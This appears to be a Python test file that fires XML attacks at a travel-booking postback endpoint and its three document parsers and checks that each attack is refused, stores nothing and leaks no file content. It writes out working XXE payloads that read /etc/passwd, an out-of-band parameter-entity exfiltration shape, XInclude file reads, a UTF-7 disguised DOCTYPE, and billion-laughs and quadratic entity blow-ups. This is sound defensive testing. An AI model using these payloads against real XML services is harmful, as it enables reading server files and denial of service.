"""XML attacks against the postback endpoint (over HTTP) and the three document parsers.

External entities (to a file and to a socket that must never be reached), parameter entities, external
DTD subsets, entity blow-ups, XInclude and processing instructions: the endpoint answers 400 with a
JSON error and stores nothing; the parsers refuse the DTD-bearing ones and read the others without
expanding anything. `tests/concur` already refuses the simplest DOCTYPE of each kind; here every
attack is also aimed at a live listener and checked for leaked file content.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import orjson
import pytest
from lxml import etree
from redis import Redis

from concur_postback.concur.fop import parse_fop
from concur_postback.concur.hosts import HostPolicy
from concur_postback.concur.notification import parse_itinerary_notification
from concur_postback.concur.profiles import parse_profile
from concur_postback.concur.trips import parse_trip
from concur_postback.concur.xml import MAX_DEPTH
from concur_postback.config import Settings
from concur_postback.errors import InvalidDocument
from tests.conftest import TOKEN, CapturedLogs, LiveServer
from tests.security.conftest import ConnectionTrap

ITINERARY = {"type": "Itinerary", "oauth_token_key": TOKEN}
TRIP_URI = "https://www.concursolutions.com/api/travel/trip/v1.1/"
XINCLUDE = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
DTD_REFUSALS = {"dtd_forbidden", "malformed_xml"}  # libxml2 may stop a blow-up before the DOCTYPE check
# What reading /etc/passwd would leak: its first line is root's on every Unix.
PASSWD = [line for line in Path("/etc/passwd").read_text().splitlines() if line][:1] or ["root:x:0:0"]


def notification(object_uri: str) -> str:
    """A notification as Concur sends it, with ``object_uri`` (markup allowed) as the ObjectURI."""
    return (
        "<Notification><ObjectType>ITINERARY</ObjectType>"
        f"<ObjectURI>{object_uri}</ObjectURI><EventDateTime>2013-02-13T08:12:35</EventDateTime>"
        "<EventType>UPDATE</EventType><Context>&x;</Context></Notification>"
    )


def laughs(root: str) -> str:
    """Billion laughs: ten levels of ten references each, 10^9 'lol's if expanded."""
    levels = ['<!ENTITY x0 "lol">'] + [f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<!DOCTYPE {root} [{"".join(levels)}<!ENTITY x "&x9;">]>'


def dtd_attacks(root: str, listener: str) -> dict[str, str]:
    """DOCTYPE prologues for a document whose root is ``root``; the body references ``&x;``."""
    quadratic = "A" * 20_000
    return {
        "xxe_file": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "xxe_http": f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{listener}/xxe">]>',
        "xxe_public": f'<!DOCTYPE {root} [<!ENTITY x PUBLIC "-//A//B" "{listener}/public">]>',
        "parameter_entity_http": (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{listener}/pe.dtd"> %p; <!ENTITY x "y">]>'
        ),
        "parameter_entity_oob": (  # the out-of-band exfiltration shape: file into a URL
            f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "file:///etc/passwd">'
            f'<!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'{listener}/?%f;\'>"> %e; %s; <!ENTITY x "y">]>'
        ),
        "external_subset": f'<!DOCTYPE {root} SYSTEM "{listener}/external.dtd">',
        "external_subset_public": f'<!DOCTYPE {root} PUBLIC "-//A//B" "{listener}/public.dtd">',
        "billion_laughs": laughs(root),
        "quadratic_blowup": f'<!DOCTYPE {root} [<!ENTITY a "{quadratic}"><!ENTITY x "{"&a;" * 1000}">]>',
    }


def assert_nothing_leaked(text: str | bytes) -> None:
    data = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
    for line in PASSWD:
        assert line not in data


# --- the endpoint, over HTTP ------------------------------------------------------------------------------


def endpoint_bodies(listener: str) -> dict[str, bytes]:
    body = notification(TRIP_URI + "ABC")
    bodies = {
        name: (prologue + body).encode() for name, prologue in dtd_attacks("Notification", listener).items()
    }
    xxe = dtd_attacks("Notification", listener)["xxe_file"] + body
    bodies["xxe_utf16"] = ('<?xml version="1.0" encoding="UTF-16"?>' + xxe).encode("utf-16")
    bodies["xxe_utf7"] = (  # the same DOCTYPE, spelled so no '<!DOCTYPE' appears in the bytes
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE Notification +AFs-+ADw-!ENTITY x SYSTEM '
        b"+ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-" + body.replace("<", "+ADw-").encode()
    )
    # XInclude and processing instructions carry the ObjectURI an attacker wants read in: only if they
    # were processed would the notification be complete.
    no_entity = body.replace("&x;", "")
    bodies["xinclude_file"] = no_entity.replace(
        TRIP_URI + "ABC", f'<xi:include {XINCLUDE} href="file:///etc/passwd" parse="text"/>'
    ).encode()
    bodies["xinclude_http"] = no_entity.replace(
        "ABC", f'<xi:include {XINCLUDE} href="{listener}/xinclude" parse="text"/>'
    ).encode()
    bodies["processing_instruction"] = no_entity.replace(TRIP_URI + "ABC", f"<?uri {TRIP_URI}ABC?>").encode()
    bodies["processing_instruction_tail"] = no_entity.replace("ABC", "<?id ABC?>").encode()
    return bodies


EXPECTED_CODES = {
    "xinclude_file": {"missing_field"},
    "xinclude_http": {"invalid_object_uri"},
    "processing_instruction": {"missing_field"},
    "processing_instruction_tail": {"invalid_object_uri"},
}


def test_every_xml_attack_gets_a_json_400_stores_nothing_and_reaches_nothing(
    server: LiveServer, redis: Redis, trap: ConnectionTrap, captured_logs: CapturedLogs
) -> None:
    bodies = endpoint_bodies(trap.url)
    answers = {name: server.post(body=body, **ITINERARY) for name, body in bodies.items()}
    for name, response in answers.items():
        assert response.status_code == 400, (name, response.text)
        assert response.headers["content-type"] == "application/json", name
        assert response.json()["error"] in EXPECTED_CODES.get(name, DTD_REFUSALS), (name, response.text)
        assert_nothing_leaked(response.content)
    assert redis.dbsize() == 0
    assert trap.connections() == 0
    rejected = captured_logs.named("postback.rejected")
    assert len(rejected) == len(bodies)
    assert_nothing_leaked(captured_logs.text)


def test_the_leak_check_catches_a_parser_that_expands_entities() -> None:
    """The control for these tests: the same payload through an lxml parser that resolves external
    entities does leak /etc/passwd, and the check sees it. (This libxml2 may lack HTTP support, so the
    trap is a guard for builds that have it, not the only evidence.)"""
    careless = etree.XMLParser(resolve_entities=True, no_network=False, load_dtd=True)
    payload = (
        dtd_attacks("Notification", "http://127.0.0.1:9")["xxe_file"] + "<Notification>&x;</Notification>"
    )
    expanded = etree.tostring(etree.fromstring(payload.encode(), careless))
    with pytest.raises(AssertionError):
        assert_nothing_leaked(expanded)


# --- the document parsers ---------------------------------------------------------------------------------

Parser = Callable[[bytes], object]
PARSERS: dict[str, tuple[Parser, str, str]] = {
    # name: (parser, root element, a field the parser reads, with the entity in it)
    "trip": (parse_trip, "Itinerary", "<TripName>&x;</TripName><Unknown>&x;</Unknown>"),
    "profile": (
        parse_profile,
        "ProfileResponse",
        "<General><FirstName>&x;</FirstName></General><Unknown>&x;</Unknown>",
    ),
    "fop": (
        parse_fop,
        "CorporateFOPResponse",
        "<CreditCards><CreditCard><NameOnCard>&x;</NameOnCard></CreditCard></CreditCards><Unknown>&x;</Unknown>",
    ),
}


@pytest.mark.parametrize("kind", PARSERS)
def test_parsers_refuse_every_dtd_attack_without_reaching_anything(kind: str, trap: ConnectionTrap) -> None:
    parse, root, content = PARSERS[kind]
    for name, prologue in dtd_attacks(root, trap.url).items():
        with pytest.raises(InvalidDocument) as caught:
            parse(f"{prologue}<{root}>{content}</{root}>".encode())
        assert caught.value.code in DTD_REFUSALS, name
        assert_nothing_leaked(str(caught.value))
    assert trap.connections() == 0


def inert_markup(listener: str) -> dict[str, str]:
    """Markup that is well-formed without a DTD: the parser must read past it, never act on it."""
    return {
        "xinclude_file": f'<xi:include {XINCLUDE} href="file:///etc/passwd" parse="text"/>',
        "xinclude_http": f'<xi:include {XINCLUDE} href="{listener}/xinclude"/>',
        "processing_instruction": f'<?xml-stylesheet type="text/xsl" href="{listener}/style.xsl"?>',
        "schema_location": (
            '<Hint xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {listener}/schema.xsd" xsi:noNamespaceSchemaLocation="{listener}/s"/>'
        ),
    }


@pytest.mark.parametrize("kind", PARSERS)
def test_parsers_read_past_xinclude_and_instructions_without_acting_on_them(
    kind: str, trap: ConnectionTrap
) -> None:
    parse, root, content = PARSERS[kind]
    for name, markup in inert_markup(trap.url).items():
        inner = content.replace("&x;", markup)
        document = f'<?xml-stylesheet href="{trap.url}/top.xsl"?><{root}>{inner}</{root}>'
        record = parse(document.encode())
        dumped = orjson.dumps(record).decode()
        assert_nothing_leaked(dumped)
        assert "xml-stylesheet" not in dumped, name  # instructions are dropped, not passed on
    assert trap.connections() == 0


def test_a_stylesheet_instruction_before_a_valid_notification_is_dropped_unfetched(
    trap: ConnectionTrap, settings: Settings
) -> None:
    body = f'<?xml-stylesheet type="text/xsl" href="{trap.url}/x.xsl"?>' + notification(TRIP_URI + "ABC")
    note = parse_itinerary_notification(body.replace("&x;", "").encode(), HostPolicy.from_settings(settings))
    assert (note.trip_id, note.context) == ("ABC", None)
    assert trap.connections() == 0


@pytest.mark.parametrize("kind", PARSERS)
def test_parsers_refuse_nesting_deeper_than_a_record_can_be_serialised(kind: str) -> None:
    """libxml2 stops at 256 levels, orjson at 255, and `extra` mirrors the document level for level: a
    document 254 levels deep used to parse into a record the pipeline could not serialise."""
    parse, root, _ = PARSERS[kind]

    def nested(levels: int) -> bytes:
        return f"<{root}>{'<Deep>' * levels}x{'</Deep>' * levels}</{root}>".encode()

    record = parse(nested(MAX_DEPTH - 1))  # the deepest document accepted
    assert b'"x"' in orjson.dumps({"event": {"data": record}})
    for levels in (MAX_DEPTH, 200, 254):
        with pytest.raises(InvalidDocument) as caught:
            parse(nested(levels))
        assert caught.value.code == "malformed_xml"
